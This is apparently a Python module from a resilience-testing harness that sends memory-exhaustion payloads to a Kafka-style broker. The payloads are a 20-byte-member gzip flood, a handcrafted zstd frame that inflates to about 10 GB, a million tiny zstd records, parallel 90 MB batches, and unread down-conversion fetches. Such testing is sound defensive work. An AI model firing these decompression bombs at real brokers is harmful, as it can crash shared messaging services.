"""Batches that grow when they are decompressed, walked or converted."""

from __future__ import annotations

import gzip
import socket
import struct
import time

import frames
import lz4.frame
from crc32c import crc32c
from pump import LoadError, read_answer

from attacking import requests
from attacking.declaration import TOPIC, Target, attack
from minibroker.records.compression import Compression, compress

MEGABYTE = 1 << 20
_GZIP, _ZSTD = 1, 4
_ROOMY = {b"max.message.bytes": b"104857600"}


def _roomy_topic(target: Target) -> None:
    target.create_topic(configs=_ROOMY)


def _produce(target: Target, payload: bytes, records: int, attributes: int) -> None:
    head = struct.pack(">hiqqqhii", attributes, records - 1, 1_700_000_000_000, 1_700_000_000_000, -1, -1, -1, records)
    checked = head + payload
    rest = struct.pack(">ibI", -1, 2, crc32c(checked)) + checked
    answer = bytearray(target.ask(frames.produce(TOPIC, 0, struct.pack(">qi", 0, len(rest)) + rest)))
    target.note(f"error {frames.produce_error(answer, 0, TOPIC)}" if answer else "closed")


def _tiny_records(count: int) -> bytes:
    return b"".join(frames.varint(len(body)) + body for number in range(count) if (body := b"\0\0" + frames.varint(number) + b"\1\1\0"))


@attack("gzip: 4 MB of empty members", "one Produce", prepare=_roomy_topic, request_bytes=4 * MEGABYTE, max_growth_mb=128)
def gzip_members(target: Target) -> None:
    """The members have 20 bytes and no content."""
    member = gzip.compress(b"", mtime=0)
    _produce(target, member * (4 * MEGABYTE // len(member)), 1, _GZIP)


@attack(
    "zstd: a million records of 8 bytes", "one Produce, about 1 MB", prepare=_roomy_topic, request_bytes=2 * MEGABYTE, max_growth_mb=128
)
def zstd_records(target: Target) -> None:
    """The batches are valid."""
    count = target.count(1_000_000)
    _produce(target, compress(Compression.ZSTD, _tiny_records(count)), count, _ZSTD)


@attack(
    "zstd: 10 GB of zeros", "one Produce, 320 KB, with the version of zstd", prepare=_roomy_topic, request_bytes=MEGABYTE, max_growth_mb=128
)
def zstd_bomb(target: Target) -> None:
    """Return blocks that repeat one byte, in a frame without its size."""
    payload = b"\x28\xb5\x2f\xfd\x00\x38" + b"\x02\x00\x10\x00" * ((10 << 30 >> 17) - 1) + b"\x03\x00\x10\x00"
    _produce(target, payload, 1, _ZSTD)


@attack("20 zstd batches of 90 MB of zeros", "one after another on 20 connections", prepare=_roomy_topic, request_bytes=MEGABYTE)
def zstd_many(target: Target) -> None:
    """Each batch is below every limit of ratio and size, if there is no limit for the sum."""
    value = bytes(90 * MEGABYTE)
    body = b"\0\0\0\1" + frames.varint(len(value)) + value + b"\0"
    payload = compress(Compression.ZSTD, frames.varint(len(body)) + body)
    head = struct.pack(">hiqqqhii", _ZSTD, 0, 1_700_000_000_000, 1_700_000_000_000, -1, -1, -1, 1)
    rest = struct.pack(">ibI", -1, 2, crc32c(head + payload)) + head + payload
    request = frames.produce(TOPIC, 0, struct.pack(">qi", 0, len(rest)) + rest)
    links = [target.connect() for _ in range(20)]
    for link in links:
        link.sendall(request)
    for link in links:
        _answer(target, link)


def _answer(target: Target, link: socket.socket) -> None:
    try:
        answer = read_answer(link)
        target.note(f"error {frames.produce_error(answer, 0, TOPIC)}")
    except (OSError, LoadError) as error:
        target.note(str(error))


def _compressed_log(target: Target) -> None:
    target.create_topic(configs=_ROOMY)
    value = bytes(MEGABYTE)
    for _ in range(target.count(20)):
        target.ask(frames.produce(TOPIC, 0, frames.compressed_batch([value] * 4, frames.Codec(3, _lz4))))


def _lz4(data: bytes) -> bytes:
    return bytes(lz4.frame.compress(data))


@attack("down-conversion: 50 readers of the oldest format", "Fetch 1 of 80 MB in 0.4 MB of lz4", prepare=_compressed_log, max_growth_mb=128)
def down_conversion(target: Target) -> None:
    """Each client requests 50 MB that must be converted, and does not read them."""
    for _ in range(target.count(50)):
        target.connect().sendall(requests.old_fetch(TOPIC, 1, 50 * MEGABYTE))
    time.sleep(8)
